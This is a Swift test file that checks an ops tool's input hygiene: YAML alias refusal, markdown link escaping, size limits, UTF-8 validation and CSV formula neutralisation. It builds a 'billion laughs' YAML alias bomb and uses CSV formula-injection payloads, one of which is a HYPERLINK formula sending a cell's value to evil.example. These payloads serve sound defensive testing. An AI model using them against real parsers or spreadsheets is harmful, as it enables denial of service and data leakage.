import Foundation
import Testing
import Yams

@testable import OpsKit

/// Input is hostile until checked (issue 16, item 5): sizes bounded, no YAML alias expanded,
/// invalid UTF-8 refused and never rewritten, user text shown literally in the pack, CSV
/// cells that a spreadsheet would run as formulas neutralised.
@Suite struct InputHygieneTests {
    // MARK: YAML aliases

    /// A "billion laughs" front matter of about 1 KB: nine levels of nine aliases each.
    static let aliasBomb: String = {
        var lines = ["a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
        for level in 1...9 {
            let previous = "*a\(level - 1)"
            lines.append("a\(level): &a\(level) [" + Array(repeating: previous, count: 9).joined(separator: ", ") + "]")
        }
        return lines.joined(separator: "\n") + "\n"
    }()

    @Test func anAliasOrAnchorIsRefusedWithItsLineAndNeverExpanded() throws {
        #expect(
            throws: OpsError.file(
                "ops.yaml", line: 2, "`&base`: aliases are not allowed in ops documents",
                fix: "Write this value out in full wherever `*base` stands, then delete `&base`")
        ) {
            _ = try YAMLText("team: sre\nroles: &base {comms: bob}\nother: *base\n", path: "ops.yaml")
        }
        // Front matter lines count from the file's first line.
        #expect(
            throws: OpsError.file(
                "incident.md", line: 5, "`*x`: aliases are not allowed in ops documents",
                fix: "Write the value of `&x` out in full here")
        ) {
            _ = try MarkdownDocument("---\nid: a\n# &x *x in a comment is no alias\nt: '&x *x'\nu: *x\n---\n", path: "incident.md")
        }
        // `&` and `*` inside values are text, not anchors.
        let text = try YAMLText("title: R&D *latency* & more\nnote: \"&x *y\"\n", path: "a.yaml")
        #expect(text["title"]?.string == "R&D *latency* & more")
        #expect(text["note"]?.string == "&x *y")
    }

    @Test func anAliasBombInAHandEditFailsLintAtItsLineAndReadsFailFast() throws {
        let ops = try OpsFixture()
        defer { ops.remove() }
        let incident = try ops.open()
        let path = ops.folder.path + "/" + incident.path
        let original = try ops.file(incident)
        try original.replacingOccurrences(of: "---\nid:", with: "---\n" + Self.aliasBomb + "id:").write(toFile: path, atomically: true, encoding: .utf8)
        let started = Date()
        let report = try Linter.run(ops.workspace)
        #expect(
            report.errors.map(\.description) == [
                "\(incident.path):2: `&a0`: aliases are not allowed in ops documents. Write this value out in full wherever `*a0` stands, then delete `&a0`"
            ])
        #expect(Date().timeIntervalSince(started) < 10)
        // A command that reads the file says the same, and writes nothing.
        _ = try git(ops.folder.path, "-c", "user.name=Pat", "-c", "user.email=pat@example.com", "commit", "-qam", "hand edit")
        let count = try ops.commitCount()
        #expect(throws: OpsError.self) { _ = try ops.incidents.change(incident.id, .note("x"), at: nil, author: ops.alice) }
        #expect(try ops.commitCount() == count)
    }

    // MARK: The pack shows user text as typed

    @Test func markdownInATitleShowsAsTextInPackHTMLNeverAsALink() throws {
        let fixture = try SLOFixture()
        defer { fixture.remove() }
        let title = #"[Click to fix](https://evil.example/x) *urgent* _now_ `rm` ~~old~~ a\|b &copy; \*"#
        fixture.base.clock.set("2026-11-18T10:00:00Z")
        let incident = try fixture.base.open(title, sev: "SEV2", service: "ops_copilot")
        fixture.base.clock.set("2026-11-23T09:00:00Z")
        let pack = try ReviewService(fixture.workspace).build(week: ISOWeek("2026-W47")!)
        let markdown = pack.files[0].text
        try ReviewTests.expectTablesIntact(markdown)
        let page = pack.files[1].text
        #expect(!page.contains("<a "), "a title became a link")
        for tag in ["<em>urgent", "<em>now", "<code>rm", "<del>old", "©"] { #expect(!page.contains(tag), "\(tag)") }
        // The row shows exactly what was typed, character for character.
        let row = try #require(page.components(separatedBy: "<tr>").first { $0.contains(incident.id) })
        let cells = row.components(separatedBy: "<td>").dropFirst().map { $0.components(separatedBy: "</td>")[0] }
        #expect(cells.dropFirst().first == title.replacingOccurrences(of: "&", with: "&amp;"))
    }

    // MARK: CSV cells

    @Test(arguments: ["=HYPERLINK(\"http://evil.example\")", "+1+cmd", "-2+3", "@SUM(A1)", "\tx", "\r=1"])
    func aCellThatASpreadsheetWouldRunGetsALeadingQuote(value: String) {
        let csv = CSV.render(headers: ["title"], rows: [[value]])
        let cell = String(csv.dropFirst("title\r\n".count).dropLast())  // "\r\n" is one Character
        let quoted = cell.hasPrefix("\"")
        let text = quoted ? String(cell.dropFirst().dropLast()).replacingOccurrences(of: "\"\"", with: "\"") : cell
        #expect(text == "'" + value)
    }

    @Test func numbersAndPlainTextInCSVStayAsTheyAre() {
        #expect(CSV.render(headers: ["a", "b", "c", "d"], rows: [["-12", "-0.25", "p99 - 1.2s", "a,b"]]) == "a,b,c,d\r\n-12,-0.25,p99 - 1.2s,\"a,b\"\r\n")
    }

    @Test func incidentLogNeutralisesATitleThatIsAFormula() throws {
        let fixture = try SLOFixture()
        defer { fixture.remove() }
        fixture.base.clock.set("2026-11-18T10:00:00Z")
        _ = try fixture.base.open("=HYPERLINK(\"http://evil.example/?\"&A1,\"fix\")", sev: "SEV2", service: "ops_copilot")
        fixture.base.clock.set("2026-11-23T09:00:00Z")
        let pack = try ReviewService(fixture.workspace).build(week: ISOWeek("2026-W47")!)
        let log = try #require(pack.files.first { $0.name == "incident_log.csv" }).text
        #expect(log.contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"fix\"\")\","))
    }

    // MARK: Sizes

    @Test func aTitleOrNoteOverTheLimitIsRefusedWithWhatToDoAndNothingIsWritten() throws {
        let ops = try OpsFixture()
        defer { ops.remove() }
        let incident = try ops.open(String(repeating: "t", count: InputLimits.titleCharacters))
        let count = try ops.commitCount()
        let long = String(repeating: "é", count: InputLimits.titleCharacters + 1)
        #expect(
            throws: OpsError.input("the title is 201 characters, over the limit of 200. Shorten it; put the detail in a note: ops incident note ID \"...\"")
        ) {
            _ = try ops.open(long)
        }
        #expect(throws: OpsError.self) { _ = try DecisionService(ops.workspace).create(.init(title: long), author: ops.alice) }
        #expect(throws: OpsError.self) { _ = try BacklogService(ops.workspace).add(.init(title: long), author: ops.alice) }
        _ = try ops.incidents.change(incident.id, .note(String(repeating: "n", count: InputLimits.noteBytes)), at: nil, author: ops.alice)
        #expect(
            throws: OpsError.input(
                "the note is 16385 bytes, over the limit of 16384 (16 KiB). Split it into several notes, or commit the long text as a file and note where it is"
            )
        ) {
            _ = try ops.incidents.change(incident.id, .note(String(repeating: "n", count: InputLimits.noteBytes + 1)), at: nil, author: ops.alice)
        }
        #expect(try ops.commitCount() == count + 1)
    }

    @Test func anAlertWithALongSummaryStillOpensAnIncidentWithItsTitleCut() throws {
        #expect(InputLimits.clipped(String(repeating: "s", count: 500)).count == InputLimits.titleCharacters)
        #expect(InputLimits.clipped(String(repeating: "s", count: 500)).hasSuffix("…"))
        #expect(InputLimits.clipped("short") == "short")
    }

    // MARK: UTF-8

    @Test func invalidUTF8InADocumentIsRefusedAtItsLineAndNeverRewritten() throws {
        let ops = try OpsFixture()
        defer { ops.remove() }
        let incident = try ops.open()
        let path = ops.folder.path + "/" + incident.path
        var bytes = [UInt8](try Data(contentsOf: URL(fileURLWithPath: path)))
        // A Latin-1 "é" (0xE9) in the summary, a line the note does not touch.
        let summary = try #require(String(decoding: bytes, as: UTF8.self).range(of: "## Summary\n"))
        let offset = String(decoding: bytes, as: UTF8.self)[..<summary.upperBound].utf8.count
        bytes.insert(contentsOf: [0x43, 0x61, 0x66, 0xE9, 0x0A], at: offset)
        try Data(bytes).write(to: URL(fileURLWithPath: path))
        _ = try git(ops.folder.path, "-c", "user.name=Pat", "-c", "user.email=pat@example.com", "commit", "-qam", "latin-1 edit")
        let count = try ops.commitCount()
        let line = String(decoding: bytes[..<offset], as: UTF8.self).components(separatedBy: "\n").count
        let refusal = OpsError.file(
            incident.path, line: line, "is not valid UTF-8 (byte 0xE9)",
            fix: "Save the file as UTF-8 in your editor, then run the command again")
        #expect(throws: refusal) { _ = try ops.incidents.change(incident.id, .note("rolled back"), at: nil, author: ops.alice) }
        #expect(throws: refusal) { _ = try ops.incidents.change(incident.id, .move(to: .acknowledged), at: nil, author: ops.alice) }
        #expect(throws: refusal) { _ = try ops.incidents.find(incident.id) }
        #expect(try Data(contentsOf: URL(fileURLWithPath: path)) == Data(bytes))
        #expect(try ops.commitCount() == count)
        #expect(try Linter.run(ops.workspace).errors.map(\.description) == [refusal.message])
    }

    @Test func aDecisionWithABadByteIsNotRewrittenWhenItsStatusChanges() throws {
        let ops = try OpsFixture()
        defer { ops.remove() }
        let decision = try DecisionService(ops.workspace).create(.init(title: "Keep two regions"), author: ops.alice)
        let path = ops.folder.path + "/" + decision.path
        let bytes = try Data(contentsOf: URL(fileURLWithPath: path)) + Data([0x4E, 0x6F, 0xEB, 0x6C, 0x0A])
        try bytes.write(to: URL(fileURLWithPath: path))
        _ = try git(ops.folder.path, "-c", "user.name=Pat", "-c", "user.email=pat@example.com", "commit", "-qam", "latin-1 edit")
        let line = String(decoding: bytes, as: UTF8.self).components(separatedBy: "\n").count - 1
        #expect(
            throws: OpsError.file(
                decision.path, line: line, "is not valid UTF-8 (byte 0xEB)",
                fix: "Save the file as UTF-8 in your editor, then run the command again")
        ) {
            _ = try DecisionService(ops.workspace).setStatus(decision.id, to: "accepted", author: ops.alice)
        }
        #expect(try Data(contentsOf: URL(fileURLWithPath: path)) == bytes)
    }

    @Test func textFromStandardInputThatIsNotUTF8IsRefused() throws {
        #expect(throws: OpsError.input("standard input is not valid UTF-8 (byte 0xFF on line 2). Send the text as UTF-8")) {
            _ = try UTF8Text.decode(Data([0x61, 0x0A, 0x62, 0xFF]), what: "standard input")
        }
        #expect(try UTF8Text.decode(Data("é ✓ 🚨".utf8), what: "x") == "é ✓ 🚨")
    }
}
